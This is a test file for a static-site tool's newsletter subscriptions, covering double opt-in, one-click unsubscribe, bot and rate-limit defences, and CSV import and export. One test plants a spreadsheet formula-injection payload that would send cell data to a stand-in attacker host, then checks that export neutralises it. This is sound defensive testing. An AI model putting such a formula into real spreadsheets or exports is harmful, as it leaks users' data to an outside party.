"""Subscribers: sign-up from the static site with double opt-in (through a real SMTP
server), confirm, manage and one-click unsubscribe, and lists in and out as CSV."""

from __future__ import annotations

import csv
import re
import time
from pathlib import Path

import httpx
import pytest

from tests.conftest import configure_smtp, make_site, run_masthead, serving

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "subscribers"


def statuses(site: Path, tmp_path: Path) -> dict[str, str]:
    out = tmp_path / "export.csv"
    run_masthead("subscribers", "export", out, site=site)
    with out.open(encoding="utf-8") as f:
        return {row["email"]: row["status"] for row in csv.DictReader(f)}


@pytest.fixture
def newsletter_site(tmp_path, database_url, mail_sink):
    site = make_site(tmp_path, database_url, url="http://127.0.0.1/")
    configure_smtp(site, mail_sink)
    run_masthead("build", site=site)
    with serving(site) as url:
        yield site, httpx.Client(base_url=url, timeout=30), mail_sink


def link_in(message, kind: str) -> str:
    return re.search(rf"http://127\.0\.0\.1(/newsletter/{kind}/\S+/)",
                     message.get_content()).group(1)


def test_double_opt_in_from_the_sites_form_to_one_click_unsubscribe(newsletter_site,
                                                                      tmp_path):
    site, web, mail = newsletter_site
    home = web.get("/").text
    assert 'action="/newsletter/subscribe/"' in home and 'name="website"' in home
    answer = web.post("/newsletter/subscribe/", data={"email": "Reader@Example.ORG"})
    assert answer.status_code == 200 and "Check your inbox" in answer.text
    (to, confirmation), = mail.wait(1)
    assert to == ["Reader@example.org"] and "Confirm your subscription" in confirmation["Subject"]
    assert statuses(site, tmp_path) == {"Reader@example.org": "pending"}
    path = link_in(confirmation, "confirm")
    # Opening the link (as a mail scanner would) confirms nothing; pressing the button does.
    assert "Yes, subscribe me" in web.get(path).text
    assert statuses(site, tmp_path)["Reader@example.org"] == "pending"
    assert "You are subscribed" in web.post(path).text
    _, welcome = mail.wait(2)[1]
    assert welcome["Subject"].startswith("Welcome to")
    manage = link_in(welcome, "manage")
    assert "is subscribed" in web.get(manage).text
    assert statuses(site, tmp_path)["Reader@example.org"] == "confirmed"
    # RFC 8058: a mail client's single POST unsubscribes, no page, no token from a form.
    unsubscribe = manage.replace("/manage/", "/unsubscribe/")
    done = web.post(unsubscribe, content=b"List-Unsubscribe=One-Click",
                    headers={"content-type": "application/x-www-form-urlencoded"})
    assert done.status_code == 200 and "unsubscribed" in done.text
    assert statuses(site, tmp_path)["Reader@example.org"] == "unsubscribed"
    # Forged or reused-for-another-purpose tokens do nothing.
    assert web.get(path.replace("/confirm/", "/manage/")).status_code == 400
    assert web.post(unsubscribe[:-6] + "xxxxx/").status_code == 400


def test_the_form_tells_nobody_who_is_subscribed(newsletter_site, tmp_path):
    site, web, mail = newsletter_site
    first = web.post("/newsletter/subscribe/", data={"email": "a@example.org"})
    again = web.post("/newsletter/subscribe/", data={"email": "a@example.org"})
    other = web.post("/newsletter/subscribe/", data={"email": "b@example.org"})
    assert first.status_code == again.status_code == other.status_code == 200
    assert first.text == again.text == other.text
    mail.wait(2)
    time.sleep(1)
    assert sorted(to[0] for to, _ in mail.messages) == ["a@example.org", "b@example.org"]
    # A bot filling the hidden field gets the same answer and no email is sent.
    bot = web.post("/newsletter/subscribe/", data={"email": "bot@example.org",
                                                   "website": "http://spam.example"})
    assert bot.text == first.text
    assert "bot@example.org" not in statuses(site, tmp_path)
    bad = web.post("/newsletter/subscribe/", data={"email": "not an address"})
    assert bad.status_code == 400 and "is not an email address" in bad.text
    foreign = web.post("/newsletter/subscribe/", data={"email": "c@example.org"},
                       headers={"origin": "https://evil.example"})
    assert foreign.status_code == 403


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_sign_ups_are_rate_limited_per_client(newsletter_site):
    _, web, _ = newsletter_site
    codes = [web.post("/newsletter/subscribe/", data={"email": f"n{i}@example.org"}).status_code
             for i in range(11)]
    assert codes == [200] * 10 + [429]


def test_without_a_mail_server_pages_have_no_sign_up_form(sqlite_site):
    run_masthead("build", site=sqlite_site)
    assert "/newsletter/subscribe/" not in (sqlite_site / "public" / "index.html").read_text()


def test_ghost_and_substack_lists_import_with_their_status(site, tmp_path):
    ghost = run_masthead("subscribers", "import", FIXTURES / "ghost-6.65-members.csv",
                         site=site)
    assert "(ghost): 3 new" in ghost.stdout and "0 confirmation emails" in ghost.stdout
    substack = run_masthead("subscribers", "import", FIXTURES / "email-list-signups.csv",
                            site=site)
    # Two addresses are not ones we can mail (non-ASCII local parts): each reported with
    # its line, the rest imported.
    assert re.search(r"email-list-signups\.csv:7: .*'ömil@gmail\.com' is not an email",
                     substack.stderr)
    assert re.search(r"email-list-signups\.csv:22: .*'maïbes@gmail\.com' is not an email",
                     substack.stderr)
    assert "(substack): 19 new" in substack.stdout and "2 skipped" in substack.stdout
    got = statuses(site, tmp_path)
    assert got["ada@example.org"] == "confirmed"
    assert sum(1 for s in got.values() if s == "unsubscribed") == 2
    # Importing the other Substack list again changes no one who unsubscribed.
    run_masthead("subscribers", "import", FIXTURES / "email-list-subscribers.csv", site=site)
    after = statuses(site, tmp_path)
    assert all(after[e] == "unsubscribed" for e, s in got.items() if s == "unsubscribed")


def test_own_csv_round_trips_and_never_overrules_an_unsubscribe(site, tmp_path):
    own = tmp_path / "list.csv"
    own.write_text("email,name\nnew@example.org,New Reader\nbroken-address\n"
                   "new@example.org,Twice\nother@example.org,\n")
    result = run_masthead("subscribers", "import", own, "--confirmed", site=site)
    assert "list.csv:3: field 'email': 'broken-address' is not an email" in result.stderr
    assert "list.csv:4: new@example.org appears twice" in result.stderr
    assert "2 new" in result.stdout
    exported = tmp_path / "out.csv"
    run_masthead("subscribers", "export", exported, site=site)
    text = exported.read_text()
    assert text.splitlines()[0] == ("email,name,status,created_at,confirmed_at,"
                                    "unsubscribed_at,source")
    # A list saying someone unsubscribed is heeded; one saying they are subscribed is not
    # enough to take them back.
    exported.write_text(text.replace("other@example.org,,confirmed",
                                     "other@example.org,,unsubscribed"))
    run_masthead("subscribers", "import", exported, site=site)
    assert statuses(site, tmp_path)["other@example.org"] == "unsubscribed"
    run_masthead("subscribers", "import", own, "--confirmed", site=site)
    assert statuses(site, tmp_path)["other@example.org"] == "unsubscribed"
    pending = tmp_path / "pending.csv"
    pending.write_text("email\nfresh@example.org\n")
    queued = run_masthead("subscribers", "import", pending, site=site)
    assert "1 confirmation emails queued" in queued.stdout
    assert statuses(site, tmp_path)["fresh@example.org"] == "pending"
    bad = tmp_path / "bad.csv"
    bad.write_text("name,address\nx,y\n")
    failed = run_masthead("subscribers", "import", bad, site=site, check=False)
    assert failed.code == 1 and "bad.csv:1: no 'email' column" in failed.stderr


def test_exported_cells_never_run_as_spreadsheet_formulas_and_import_back_unchanged(
        sqlite_site, tmp_path):
    names = {
        "formula@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "plus@example.org": "+1-555-0100",
        "minus@example.org": "-Anonymous-",
        "at@example.org": "@handle",
        "quote@example.org": "'t Hooft",  # an apostrophe that escapes nothing stays
        "quoted@example.org": "'=already quoted",
        "plain@example.org": "Ada Lovelace",
    }
    own = tmp_path / "list.csv"
    with own.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(["email", "name"])
        out.writerows(names.items())
    run_masthead("subscribers", "import", own, "--confirmed", site=sqlite_site)
    exported = tmp_path / "out.csv"
    run_masthead("subscribers", "export", exported, site=sqlite_site)
    with exported.open(encoding="utf-8") as f:
        rows = list(csv.reader(f))
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert all(not cell.startswith(risky) for row in rows for cell in row), rows
    written = {row[0]: row[1] for row in rows[1:]}
    assert written["formula@example.org"] == "'" + names["formula@example.org"]
    assert written["quote@example.org"] == "'t Hooft"
    assert written["plain@example.org"] == "Ada Lovelace"
    # Masthead's own export, imported into another site, gives every name back as it was.
    other = make_site(tmp_path / "other")
    run_masthead("subscribers", "import", exported, site=other)
    again = tmp_path / "again.csv"
    run_masthead("subscribers", "export", again, site=other)
    with again.open(encoding="utf-8") as f:
        assert {row["email"]: row["name"] for row in csv.DictReader(f)} == written
